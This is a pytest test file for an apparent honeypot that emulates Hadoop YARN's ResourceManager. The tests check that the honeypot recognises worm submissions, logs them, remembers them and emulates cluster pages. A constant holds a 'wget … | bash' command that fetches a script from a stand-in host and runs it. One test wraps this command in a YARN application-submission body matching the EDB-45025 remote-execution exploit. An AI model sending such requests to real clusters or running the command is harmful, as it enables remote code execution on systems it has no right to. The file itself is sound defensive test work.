"""Hadoop's ResourceManager: what a worm asks and submits, what is remembered, and what one sees of the cluster."""

from __future__ import annotations

import json
from typing import Any

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols.yarn import APPS_MAX, RESOURCES_MAX, Yarn
from eudaemon.testing.script import Table, visit
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed

APPS = "/ws/v1/cluster/apps"
WGET = "wget -q -O - http://198.51.100.7/x.sh | bash"


def talk(memory: Memory | None = None, host: Host | None = None) -> Table:
    return Table(Yarn(visit(host=host, port=8088, memory=memory))).open()


def request(method: str, path: str, body: str = "") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: 192.0.2.1:8088\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()


def told(table: Table, method: str, path: str, body: str = "") -> tuple[int, Any]:
    sent = table.say(request(method, path, body))
    head, _, content = sent.partition(b"\r\n\r\n")
    return int(head.split()[1]), json.loads(content) if content.startswith(b"{") else head.decode()


@pytest.mark.parametrize("form", ["json", "xml"])
def test_a_worm_submits_a_command_on_another_connection(form: str) -> None:
    memory = Memory()
    status, new = told(talk(memory), "POST", f"{APPS}/new-application")
    name = new["application-id"]
    assert (status, name[:12]) == (200, "application_")
    app = {"application-id": name, "application-name": "get-shell", "application-type": "YARN",
           "am-container-spec": {"commands": {"command": WGET}}}  # fmt: skip
    table = talk(memory)
    body = json.dumps(app) if form == "json" else f"<a><command>{WGET}</command></a>"
    status, head = told(table, "POST", APPS, body)
    assert ExploitRecognised("hadoop-yarn", "EDB-45025", WGET) in table.facts
    assert CommandEntered(WGET) in table.facts
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x.sh"]
    if form == "xml":
        assert status == 400
        return
    assert status == 202
    assert f"Location: http://192.0.2.1:8088{APPS}/{name}" in head
    later = talk(memory)
    assert told(later, "GET", f"{APPS}/{name}")[1]["app"]["name"] == "get-shell"
    assert told(later, "PUT", f"{APPS}/{name}/state") == (200, {"state": "KILLED"})
    assert told(later, "GET", APPS)[1]["apps"]["app"][0]["id"] == name
    assert told(later, "POST", f"{APPS}/new-application")[1]["application-id"] > name


def test_files_beside_a_command_are_fetched() -> None:
    entries = [{"key": str(n), "value": {"resource": f"http://198.51.100.7/{n}"}} for n in range(RESOURCES_MAX + 1)]
    entries[0]["value"] = {"resource": "hdfs://a/b"}
    table = talk()
    told(table, "POST", APPS, json.dumps({"am-container-spec": {"local-resources": {"entry": entries}}}))
    wished = [wish.download.url for wish in table.wishes]
    assert wished == [f"http://198.51.100.7/{n}" for n in range(1, RESOURCES_MAX)]


def test_what_one_sees() -> None:
    table = talk()
    info = told(table, "GET", "/ws/v1/cluster/info")[1]["clusterInfo"]
    assert info["state"] == "STARTED"
    assert told(table, "GET", "/ws/v1/cluster/metrics")[1]["clusterMetrics"]["activeNodes"] == 1
    assert told(table, "GET", APPS)[1] == {"apps": None}
    assert b"<title>All Applications</title>" in table.say(request("GET", "/cluster/apps"))
    assert b"\r\nLocation: http://192.0.2.1:8088/cluster\r\n" in table.say(request("GET", "/"))
    assert told(table, "GET", f"{APPS}/application_1_0001")[0] == 404
    assert b"<h2>HTTP ERROR 404</h2>" in table.say(request("GET", "/a<b>"))
    assert b"/a<b>" not in table.sent
    assert told(table, "DELETE", "/cluster")[0] == 405
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(24))
    assert len({talk(host=host).say(request("GET", "/ws/v1/cluster/info")) for host in hosts}) == 24


@pytest.mark.parametrize(
    "body",
    ["", "{", "[]", '{"am-container-spec": 3}', '{"am-container-spec": {"commands": []}}', '{"application-id": 3}',
     '{"am-container-spec": {"local-resources": {"entry": [3, {"value": 3}, {"value": {"resource": 3}}]}}}'],
)  # fmt: skip
def test_what_is_no_application(body: str) -> None:
    table = talk()
    assert told(table, "POST", APPS, body)[0] == 400
    assert not table.wishes


def test_applications_are_remembered_up_to_a_limit() -> None:
    memory = Memory()
    table = talk(memory)
    for number in range(APPS_MAX + 1):
        told(
            table,
            "POST",
            APPS,
            json.dumps({"application-id": f"application_1_{number:04d}", "application-name": "x" * 999}),
        )
    apps = told(table, "GET", APPS)[1]["apps"]["app"]
    assert [app["id"][-2:] for app in apps] == [f"{n:02d}" for n in range(1, APPS_MAX + 1)]
    memory.remember("yarn", "198.51.100.7", b"not JSON")
    assert told(table, "GET", APPS)[1] == {"apps": None}
